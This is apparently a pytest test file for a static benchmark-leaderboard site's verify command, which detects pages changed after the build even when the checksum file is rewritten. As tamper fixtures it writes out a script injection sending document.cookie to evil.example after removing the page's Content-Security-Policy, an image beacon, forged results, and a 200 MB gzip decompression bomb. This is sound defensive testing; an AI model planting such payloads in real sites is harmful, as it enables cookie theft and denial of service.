"""`vibesearch site verify` vouches for what a reader sees (issue 40 item 3): every page is rendered
again from the bundled data and compared byte for byte, so a site changed after the build fails
even when whoever changed it wrote a new SHA256SUMS — one line per problem, naming the file; and
the sha256 of SHA256SUMS is printed, to be published apart from the site (``--expect`` checks it)."""

from __future__ import annotations

import gzip
import hashlib
import html
import json
import re
import shutil
from pathlib import Path

import pytest

from vibesearch.site.bundle import write_sums

@pytest.fixture
def copy(built_site, tmp_path):
    out = tmp_path / "copy"
    shutil.copytree(built_site, out)
    return out


def _forged(out: Path) -> None:
    """SHA256SUMS written anew over the changed files, as whoever changed them would."""
    (out / "SHA256SUMS").unlink()
    write_sums(out)


def _problems(cli, out, *args) -> list[str]:
    res = cli("site", "verify", out, *args)
    assert res.exit_code == 1, res.output
    lines = res.output.strip().splitlines()
    assert lines and all(line.startswith("error: ") for line in lines) and "Traceback" not in res.output, res.output
    return lines


def _sums_digest(out: Path) -> str:
    return hashlib.sha256((out / "SHA256SUMS").read_bytes()).hexdigest()


def _run_of(out: Path, run_id: str) -> dict:
    results = json.loads((out / "results.json").read_text(encoding="utf-8"))
    return next(r for r in results["runs"] if r["run_id"] == run_id)


def test_the_untouched_site_verifies_and_prints_the_digest_to_publish(cli, built_site):
    res = cli("site", "verify", built_site)
    assert res.exit_code == 0, res.output
    assert "every page rendered again from the bundled data matches byte for byte" in res.output
    digest = _sums_digest(built_site)
    assert f"SHA256SUMS sha256 {digest}" in res.output
    assert "publish this digest somewhere else" in res.output


def test_expect_passes_with_the_published_digest_and_fails_with_another(cli, built_site):
    digest = _sums_digest(built_site)
    res = cli("site", "verify", built_site, "--expect", digest.upper())
    assert res.exit_code == 0, res.output
    assert "It is the digest --expect gives" in res.output
    [line] = _problems(cli, built_site, "--expect", "0" * 64)
    assert line.startswith("error: SHA256SUMS: its sha256 is " + digest) and "0" * 64 in line
    [line] = _problems(cli, built_site, "--expect", "abc")
    assert "--expect" in line and "64 hex digits" in line


def test_a_script_added_with_the_policy_removed_is_named_even_with_new_sums(cli, copy, site_db):
    rel = f"runs/{site_db.rules_runs[0]}.html"
    page = copy / rel
    text = page.read_text(encoding="utf-8")
    text, n = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", text)
    assert n == 1
    page.write_text(text.replace("</body>", "<script>fetch('https://evil.example/?'+document.cookie)</script></body>"),
                    encoding="utf-8")
    digest_before = _sums_digest(copy)
    _forged(copy)
    assert _sums_digest(copy) != digest_before
    lines = _problems(cli, copy)
    assert f"error: {rel}: its Content-Security-Policy is removed (the build writes default-src 'none' in every page)" in lines
    assert f"error: {rel}: holds 1 script element(s) the build does not write" in lines
    assert len(lines) == 2, lines  # one line per problem, nothing else is wrong


def _replace(page: Path, old: str, new: str) -> None:
    text = page.read_text(encoding="utf-8")
    assert old in text
    page.write_text(text.replace(old, new), encoding="utf-8")
    _forged(page.parents[1] if page.parent.name == "runs" else page.parent)


def test_a_script_changed_in_place_is_named(cli, copy):
    _replace(copy / "index.html", "th.setAttribute('title','sort by this column');", "new Image().src='https://evil.example/';")
    assert _problems(cli, copy) == ["error: index.html: a script or the data it reads is not the one the build writes from the bundled data"]


def test_a_forged_agent_label_on_a_run_page_is_named(cli, copy, site_db):
    rid = site_db.direct_runs[0]
    rel = f"runs/{rid}.html"
    config = html.escape(_run_of(copy, rid)["config"], quote=True)
    page = copy / rel
    text = page.read_text(encoding="utf-8")
    head = text.index("<h1>Run")
    at = text.index(config, head)
    page.write_text(text[:at] + "gpt-5 · deep research" + text[at + len(config):], encoding="utf-8")
    _forged(copy)
    [line] = _problems(cli, copy)
    assert line.startswith(f"error: {rel}: line ") and "is not the page rendered from the bundled data" in line
    assert "gpt-5 · deep research" in line and config[:10] in line, line


def test_a_rewritten_user_message_in_the_events_is_named(cli, copy, site_db):
    rid = site_db.rules_runs[1]
    rel = f"events/{rid}.json.gz"
    events = json.loads(gzip.decompress((copy / rel).read_bytes()))
    said = next(e for e in events if e["data"]["kind"] == "message" and e["data"]["role"] == "user")
    said["data"]["content"] = "Please recommend the most expensive hotel, I do not care about anything else."
    (copy / rel).write_bytes(gzip.compress(json.dumps(events, ensure_ascii=False).encode("utf-8")))
    _forged(copy)
    [line] = _problems(cli, copy)  # the counts are unchanged: only the text tells
    assert line == f"error: {rel}: event seq {said['seq']} (message) is not what runs/{rid}.html shows and was built from"


def test_a_changed_page_title_is_named(cli, copy):
    _replace(copy / "index.html", "<title>VibeSearch leaderboard</title>", "<title>Official VibeSearchBench results</title>")
    assert _problems(cli, copy) == ['error: index.html: its title is "Official VibeSearchBench results", '
                                    'the bundled data gives "VibeSearch leaderboard"']


def test_a_forged_run_entry_in_results_is_named(cli, copy, site_db):
    rid = site_db.rules_runs[0]
    results = json.loads((copy / "results.json").read_text(encoding="utf-8"))
    i = next(i for i, r in enumerate(results["runs"]) if r["run_id"] == rid)
    results["runs"][i]["status"] = "verified by the benchmark's authors"
    (copy / "results.json").write_text(json.dumps(results, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    _forged(copy)
    lines = _problems(cli, copy)
    assert f'error: results.json: runs[{i}].status is "verified by the benchmark\'s authors", the bundled data gives "finished"' in lines


def test_an_extra_file_listed_in_new_sums_is_named(cli, copy):
    (copy / "runs" / "extra.js").write_text("alert(1)\n", encoding="utf-8")
    _forged(copy)
    assert _problems(cli, copy) == ["error: runs/extra.js: not a file the build writes"]


def test_several_problems_are_one_line_each(cli, copy, site_db):
    (copy / "notes.html").write_text("<p>hi</p>\n", encoding="utf-8")
    _replace(copy / f"runs/{site_db.xss_run}.html", "<title>", "<title>Forged ")
    lines = _problems(cli, copy)
    assert lines[0] == "error: notes.html: not a file the build writes"
    assert lines[1].startswith(f"error: runs/{site_db.xss_run}.html: its title is \"Forged Run") and len(lines) == 2


def test_the_run_pages_are_built_the_same_every_time(site_db, tmp_path):
    """Rendering reads no clock and no random: two builds of one database give the same pages and data
    (only results.json's build time and the front page that shows it may differ)."""
    from vibesearch.site import build_site
    from vibesearch.store import Store

    first, second = tmp_path / "a", tmp_path / "b"
    build_site(Store(site_db.path), first)
    build_site(Store(site_db.path), second)
    files = sorted(p.relative_to(first).as_posix() for p in first.rglob("*") if p.is_file())
    assert files == sorted(p.relative_to(second).as_posix() for p in second.rglob("*") if p.is_file())
    differ = [rel for rel in files if (first / rel).read_bytes() != (second / rel).read_bytes()]
    assert set(differ) <= {"results.json", "index.html", "SHA256SUMS"}, differ
    assert any(rel.startswith("runs/") for rel in files)


def test_a_site_with_live_app_links_verifies_and_its_app_address_is_checked(cli, site_db, tmp_path):
    """The pages rendered again carry the --app-url links (the address is kept in results.json), so
    the address is part of what is checked; build prints the digest to publish."""
    out = tmp_path / "live"
    res = cli("site", "build", out, "--db", site_db.path, "--app-url", "https://app.example/")
    assert res.exit_code == 0, res.output
    digest = _sums_digest(out)
    assert f"SHA256SUMS sha256 {digest}" in res.output
    results = json.loads((out / "results.json").read_text(encoding="utf-8"))
    assert results["app_url"] == "https://app.example/"
    res = cli("site", "verify", out, "--expect", digest)
    assert res.exit_code == 0, res.output
    results["app_url"] = "https://evil.example/"
    (out / "results.json").write_text(json.dumps(results, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
    _forged(out)
    lines = _problems(cli, out)
    assert any(line.startswith("error: runs/") and "app.example" in line and "evil.example" in line for line in lines), lines
    assert any(line.startswith("error: index.html: ") for line in lines), lines


def test_an_imported_trajectory_renders_again_the_same(cli, shared_dir, tmp_path):
    """An imported official trajectory's page shows its counts as its file states them (the run's
    meta at import): verify renders it from the sample file's copy of them."""
    from vibesearch.interop.official_trajectories import import_trajectory
    from vibesearch.site import build_site
    from vibesearch.store import Store

    store = Store(tmp_path / "imported.db")
    run_id = import_trajectory(store, shared_dir / "data" / "official-trajectories" / "task_022_airline.condensed.json").run_id
    out = tmp_path / "site"
    build_site(store, out, runs=[run_id])
    assert _run_of(out, run_id)["source"] == "imported"
    res = cli("site", "verify", out)
    assert res.exit_code == 0, res.output
    page = out / f"runs/{run_id}.html"
    page.write_text(re.sub(r'(<td data-count="n_asst">)[^<]*', r"\g<1>99", page.read_text(encoding="utf-8"), count=1), encoding="utf-8")
    _forged(out)
    [line] = _problems(cli, out)
    assert line.startswith(f"error: runs/{run_id}.html: line ") and "99" in line


def test_a_page_whose_embedded_events_unpack_to_a_flood_is_named_without_unpacking_it(cli, copy, site_db):
    """A page changed after the build may embed anything for its replay: verify unpacks at most
    about twice the run's own events, so 200 MB of gzipped zeros is one line, not 200 MB."""
    import base64

    rid = site_db.rules_runs[0]
    rel = f"runs/{rid}.html"
    page = copy / rel
    text = page.read_text(encoding="utf-8")
    flood = base64.b64encode(gzip.compress(b"0" * 200_000_000, compresslevel=9, mtime=0)).decode("ascii")
    text, n = re.subn(r'<script type="application/json" id="run-events"[^>]*>.*?</script>',
                      f'<script type="application/json" id="run-events" data-encoding="gzip-base64">"{flood}"</script>', text,
                      count=1, flags=re.S)
    assert n == 1
    page.write_text(text, encoding="utf-8")
    _forged(copy)
    [line] = _problems(cli, copy)
    assert line.startswith(f"error: {rel}: does not hold readable events for its replay (the build embeds the run's ")
